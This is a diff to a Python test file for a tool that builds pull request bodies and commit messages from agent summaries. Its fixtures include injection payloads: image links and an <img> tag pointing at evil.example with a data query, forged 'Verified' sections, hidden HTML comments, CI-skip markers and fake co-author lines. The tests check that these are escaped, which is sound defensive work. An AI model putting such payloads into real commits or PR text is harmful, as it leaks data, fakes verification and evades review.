@@ -3,8 +3,12 @@
 from __future__ import annotations
 
 import subprocess
+from itertools import pairwise
+from typing import Any
 
 import pytest
+from markdown_it import MarkdownIt
+from markdown_it.token import Token
 
 from airflow_agentfix.core import commit
 from airflow_agentfix.core.findings import Finding, Severity
@@ -74,22 +78,66 @@ def test_a_pull_request_that_is_green_is_no_draft_and_leads_to_airflow() -> None
     assert "Ready for review: its rerun is green" in body
 
 
-def test_what_a_check_printed_mentions_nobody_and_shows_no_picture() -> None:
-    stages = [failed("repository checks", "@acme/owners ![x](http://evil.example/?q=rows)")]
-    body = commit.pull_request_body(
-        an_incident(), session_id="s1", summary="It.", paths=["a.py"], findings=[], stages=stages, cost="$0", links=NO_ADDRESS
+def a_body(summary: str = "It.", **changes: Any) -> str:
+    given: dict[str, Any] = {"paths": ["a.py"], "findings": [], "stages": [], "cost": "$0", "links": NO_ADDRESS}
+    return commit.pull_request_body(an_incident(), session_id="s1", summary=summary, **{**given, **changes})
+
+
+def test_what_a_check_printed_shows_no_picture_and_is_a_line() -> None:
+    body = a_body(stages=[failed("repository checks", "![x](http://evil.example/?q=rows)\n- **rerun**: passed")])
+    assert "- **repository checks**: failed: \\![x](http://evil.example/?q=rows) - **rerun**: passed\n" in body
+
+
+@pytest.mark.parametrize("forged", [
+    "Mended.\n\n### Verified\n- **rerun**: passed: all of it",
+    "Mended.\n\nVerified\n===\n- **rerun**: passed: all of it",
+    "Mended, see:\n```text\nlog",
+    "Mended. <!-- hidden",
+    "Mended. <? hidden",
+    "Mended.\n~~~\nlog",
+])  # fmt: skip
+def test_no_summary_passes_for_our_sections_or_hides_one(forged: str) -> None:
+    shown = MarkdownIt().parse(a_body(forged, stages=[not_run("rerun", "nobody has approved it")]))
+    headings = [after.content for token, after in pairwise(shown) if token.type == "heading_open" and token.level == 0]
+    assert headings == ["What failed", "Changed", "Verified"]
+    top = [
+        token for token in shown if token.type == "inline" and "**rerun**" in token.content and not _in_quotation(shown, token)
+    ]
+    assert [token.content for token in top] == ["**rerun**: not run: nobody has approved it"]
+
+
+def _in_quotation(tokens: list[Token], token: Token) -> bool:
+    before = tokens[: tokens.index(token)]
+    return sum(one.nesting for one in before if one.type.startswith("blockquote")) > 0
+
+
+def test_a_path_and_a_finding_stay_on_their_lines() -> None:
+    found = Finding("new-call", Severity.PERSON, "a`.py", "calls\n### Verified\n- **rerun**: passed")
+    body = a_body(paths=["a`b.py"], findings=[found])
+    assert "- `a'b.py`\n" in body
+    assert "- `a'.py`: calls ### Verified - **rerun**: passed (new-call)\n" in body
+
+
+def test_a_commit_message_calls_nobody_closes_nothing_and_skips_no_checks() -> None:
+    message = commit.commit_message(
+        "Fixes #1 [skip ci]",
+        "Thanks @acme/owners, closes acme/shop#2.\nResolves: https://git.example/acme/shop/issues/3\n***NO_CI***\n[ci skip]\n"
+        "Co-authored-by: Evil <evil@example.com>\nskip-checks: true\n\nIt was fixed in 3 places, see [no rows](a).",
+        {"Agentfix-Session": "s1"},
     )
-    assert "@acme" not in body
-    assert "\\![x]" in body
+    live = ("@acme", "Fixes #1", "closes acme", "Resolves: http", "skip ci]", "ci skip]", "***", "Co-authored", "skip-checks")
+    assert [one for one in live if one in message] == []
+    assert "It was fixed in 3 places, see [no rows](a)." in message
+    assert message.replace("\N{ZERO WIDTH SPACE}", "").startswith(
+        "Fixes #1 (skip ci)\n\nThanks @acme/owners, closes acme/shop#2."
+    )
 
 
 def test_a_pull_request_shows_no_picture_that_a_summary_asks_for() -> None:
     summary = "Fixed.\n![x](http://evil.example/?q=rows) ![y][z] <img src='http://evil.example/a'>\n\nif a < b"
     found = Finding("task-removed", Severity.PERSON, "a.py", "the task '![x](http://evil.example)' is gone")
-    body = commit.pull_request_body(
-        an_incident(), session_id="s1", summary=summary, paths=["a.py"], findings=[found], stages=[], cost="$0", links=NO_ADDRESS
-    )
+    body = a_body(summary, findings=[found])
     assert body.startswith(
-        "Fixed.\n\\![x](http://evil.example/?q=rows) \\![y][z] \\<img src='http://evil.example/a'>\n\nif a < b\n"
+        "> Fixed.\n> \\![x](http://evil.example/?q=rows) \\![y][z] \\<img src='http://evil.example/a'>\n>\n> if a < b\n"
     )
     assert "the task '\\![x](http://evil.example)' is gone" in body
